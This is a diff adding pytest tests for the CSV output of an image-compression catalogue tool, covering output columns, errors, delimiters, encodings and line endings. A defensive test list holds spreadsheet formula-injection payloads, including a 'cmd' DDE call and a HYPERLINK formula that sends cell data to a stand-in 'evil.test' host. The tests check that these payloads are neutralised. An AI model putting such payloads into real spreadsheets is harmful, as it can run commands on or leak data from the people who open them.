@@ -1,0 +1,262 @@
+"""The output CSV, cell by cell."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+
+import pytest
+
+from imgcompress.csvfile import BadCatalogue, write_catalogue
+
+from .files import HEADER, Outcome, stream_of, written
+
+A, B, C = "https://a.test/1.jpg", "https://b.test/2.jpg", "https://c.test/3.jpg"
+X, Y = "https://out.test/image/x.jpg", "https://out.test/image/y.jpg"
+OUTPUT_HEADER = ["S. No.", "Product Name", "Input Image Urls", "Output Image Urls", "Image Errors"]
+
+
+def table_of(content: str | bytes, *outcomes: Outcome, delimiter: str = ",") -> list[list[str]]:
+    text = written(content, *outcomes).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
+
+
+def done(row: int, position: int, url: str) -> Outcome:
+    return Outcome(row, position, url, None)
+
+
+def failed(row: int, position: int, error: str) -> Outcome:
+    return Outcome(row, position, None, error)
+
+
+def test_outputs_stand_in_the_slots_of_their_urls() -> None:
+    text = f'{HEADER}1,Lamp,"{A},{B},{C}"\n2,Sofa,{A}\n'
+    assert table_of(
+        text,
+        done(2, 0, X),
+        failed(2, 1, "source_status: The server answered 404."),
+        done(2, 2, Y),
+        done(3, 0, X),
+    ) == [
+        OUTPUT_HEADER,
+        ["1", "Lamp", f"{A},{B},{C}", f"{X},,{Y}", "2: source_status: The server answered 404."],
+        ["2", "Sofa", A, X, ""],
+    ]
+
+
+def test_output_columns_of_an_earlier_run_are_replaced() -> None:
+    text = f'{HEADER}1,Lamp,"{A},{B}"\n2,Sofa,{A}\n'
+    first = written(text, done(2, 0, X), failed(2, 1, "dns_failed: x"), done(3, 0, X))
+    second = written(first, failed(2, 0, "too_large: y"), done(2, 1, Y), done(3, 0, Y))
+    assert list(csv.reader(io.StringIO(second.decode("utf-8-sig"), newline=""))) == [
+        OUTPUT_HEADER,
+        ["1", "Lamp", f"{A},{B}", f",{Y}", "1: too_large: y"],
+        ["2", "Sofa", A, Y, ""],
+    ]
+    assert written(second, failed(2, 0, "too_large: y"), done(2, 1, Y), done(3, 0, Y)) == second
+
+
+def test_output_columns_are_replaced_where_they_stand() -> None:
+    text = (
+        f"Image Errors,S. No.,Output Image Urls,Product Name,Input Image Urls,Note\n"
+        f"old,1,{B},Lamp,{A},x\n,2\n"
+    )
+    assert table_of(text, done(2, 0, X)) == [
+        ["Image Errors", "S. No.", "Output Image Urls", "Product Name", "Input Image Urls", "Note"],
+        ["", "1", X, "Lamp", A, "x"],
+        ["", "2", "", "", "", ""],
+    ]
+
+
+def test_a_missing_output_column_is_added_beside_one_that_is_there() -> None:
+    text = f"S. No.,Product Name,Input Image Urls,Image Errors\n1,Lamp,{A},old\n"
+    assert table_of(text, done(2, 0, X)) == [
+        ["S. No.", "Product Name", "Input Image Urls", "Image Errors", "Output Image Urls"],
+        ["1", "Lamp", A, "", X],
+    ]
+
+
+def test_several_errors_are_joined() -> None:
+    text = f'{HEADER}1,Lamp,"{A},{B}"\n'
+    assert table_of(text, failed(2, 0, "dns_failed: x"), failed(2, 1, "too_large: y"))[1][3:] == [
+        ",",
+        "1: dns_failed: x | 2: too_large: y",
+    ]
+
+
+def test_slots_of_a_partial_download_stay_empty() -> None:
+    text = f'{HEADER}1,Lamp,"{A},{B}"\n2,Sofa,{A}\n3,Chair,"{A} {B}"\n4,Desk,{C}\n'
+    assert [row[3] for row in table_of(text, done(2, 1, X), done(4, 0, Y))] == [
+        "Output Image Urls",
+        f",{X}",
+        "",
+        f"{Y},",
+        "",
+    ]
+
+
+def test_outcomes_of_rows_that_hold_no_image_are_passed_over() -> None:
+    assert table_of(f"{HEADER}\n2,Sofa,{A}\n", done(1, 0, X), done(2, 0, X), done(3, 0, Y))[-1] == [
+        "2",
+        "Sofa",
+        A,
+        Y,
+        "",
+    ]
+
+
+def test_the_callers_cells_and_columns_and_blank_rows_are_kept() -> None:
+    text = f'\r\nNote,Input Image Urls,S. No.,Product Name,Note\r\n" a ""b""\n",{A}, 1 ,"x,y",\r\n'
+    assert written(f"{text}\r\n,,,,\r\n", done(3, 0, X)).decode() == (
+        "\r\nNote,Input Image Urls,S. No.,Product Name,Note,Output Image Urls,Image Errors\r\n"
+        f'" a ""b""\n",{A}, 1 ,"x,y",,{X},\r\n\r\n,,,,\r\n'
+    )
+
+
+def test_spilled_urls_go_back_to_their_cell_and_short_rows_are_filled() -> None:
+    text = f"S. No.,Product Name,Input Image Urls\n1,Lamp,{A},{B}\n"
+    assert table_of(text, done(2, 1, X))[1] == ["1", "Lamp", f"{A},{B}", f",{X}", ""]
+    short = f"S. No.,Input Image Urls,Product Name,Brand\n1,{A}\n"
+    assert table_of(short, done(2, 0, X))[1] == ["1", A, "", "", X, ""]
+
+
+@pytest.mark.parametrize("delimiter", ",;\t|")
+def test_the_separator_is_the_callers(delimiter: str) -> None:
+    text = f"{HEADER}1,Lamp,{A}\n".replace(",", delimiter)
+    assert table_of(text, done(2, 0, X), delimiter=delimiter) == [
+        OUTPUT_HEADER,
+        ["1", "Lamp", A, X, ""],
+    ]
+
+
+def test_excels_sep_line_is_kept() -> None:
+    text = f"sep=;\r\n{HEADER}1,Lamp,{A}\n".replace(",", ";")
+    assert written(text).decode().startswith("sep=;\nS. No.;")
+
+
+@pytest.mark.parametrize(
+    "encoding, marked",
+    [
+        ("utf-8", False),
+        ("utf-8-sig", True),
+        ("utf-16", True),
+        ("utf-16-le", True),
+        ("cp1252", True),
+    ],
+)
+def test_the_output_is_utf_8_marked_unless_the_input_was_plain_utf_8(
+    encoding: str, marked: bool
+) -> None:
+    output = written(f"{HEADER}1,Café,{A}\n".encode(encoding))
+    assert output.startswith(b"\xef\xbb\xbf") is marked
+    assert output.count("Café".encode()) == 1
+    assert output.decode("utf-8-sig").startswith("S. No.,")
+
+
+@pytest.mark.parametrize(
+    "ending, output_ending", [("\n", b"\n"), ("\r\n", b"\r\n"), ("\r", b"\r\n")]
+)
+def test_lines_end_as_the_callers_did_or_with_crlf(ending: str, output_ending: bytes) -> None:
+    output = written(f"{HEADER}1,Lamp,{A}\n".replace("\n", ending), done(2, 0, X))
+    assert output == output_ending.join(
+        [
+            b"S. No.,Product Name,Input Image Urls,Output Image Urls,Image Errors",
+            f"1,Lamp,{A},{X},".encode(),
+            b"",
+        ]
+    )
+
+
+def test_a_bare_cr_in_a_cell_survives_among_lf_lines() -> None:
+    assert table_of(f'{HEADER}1,"a\rb",{A}\n')[1][1] == "a\rb"
+
+
+FORMULAS = [
+    "=cmd|'/c calc'!A1",
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "-1-1|cmd",
+    "@SUM(1+1)*cmd",
+    "\t=1",
+    "\rtext",
+    " =1",
+    "\u00a0=1",
+    "\u3000+A1",
+    "\u200b=1",
+    "＝1+1",
+    "＋A1",
+    "－A1",
+    "＠SUM(A1)",
+    '=HYPERLINK("https://evil.test?"&A1,"x")',
+    "+44 20 7946",
+    "- dash",
+    "-5+cmd|' /c'!A0",
+    "\n=1",
+    "=",
+    "=-5",
+    "+٣",
+]
+HARMLESS = [
+    "-5",
+    "+3.2",
+    "-1,234.50",
+    "-5 %",
+    "+1.5e-3",
+    "-.5",
+    " -7",
+    "-",
+    "a=b",
+    "x-1",
+    "1+1",
+    "",
+    "'=1",
+    "3@home",
+    "<=5",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_cell_that_could_run_as_a_formula_is_made_inert(cell: str) -> None:
+    rows = [["S. No.", "Product Name", "Input Image Urls", cell], ["1", cell, A, ""]]
+    text = io.StringIO(newline="")
+    csv.writer(text).writerows(rows)
+    header, row = table_of(text.getvalue(), failed(2, 0, "x"))
+    assert (header[3], row[1]) == (f"'{cell}", f"'{cell}")
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_plain_numbers_and_other_text_stay_untouched(cell: str) -> None:
+    assert table_of(f'{HEADER}1,"{cell}",{A}\n')[1][1] == cell
+
+
+def test_every_error_and_url_of_our_own_making_is_inert_too() -> None:
+    row = table_of(f"{HEADER}1,Lamp,{A}\n", Outcome(2, 0, "=evil()", None))[1]
+    assert row[3] == "'=evil()"
+
+
+def test_the_output_streams() -> None:
+    source = stream_of(HEADER + f"1,Lamp,{A}\n" * 20_000)
+    asked: list[int] = []
+
+    def outcomes() -> Iterator[Outcome]:
+        for number in range(2, 20_002):
+            asked.append(number)
+            yield done(number, 0, X)
+
+    chunks = write_catalogue(source, outcomes())
+    next(chunks)
+    assert len(asked) < 2_000
+
+
+def test_a_source_that_is_no_catalogue_is_refused() -> None:
+    with pytest.raises(BadCatalogue):
+        written("a,b\n1,2\n")
+
+
+def test_the_output_is_itself_a_good_catalogue() -> None:
+    text = f'{HEADER}1,Lamp,"{A},{B}"\n'
+    again = written(written(text, done(2, 0, X)), done(2, 0, Y))
+    row = list(csv.reader(io.StringIO(again.decode())))[1]
+    assert row == ["1", "Lamp", f"{A},{B}", f"{Y},", ""]
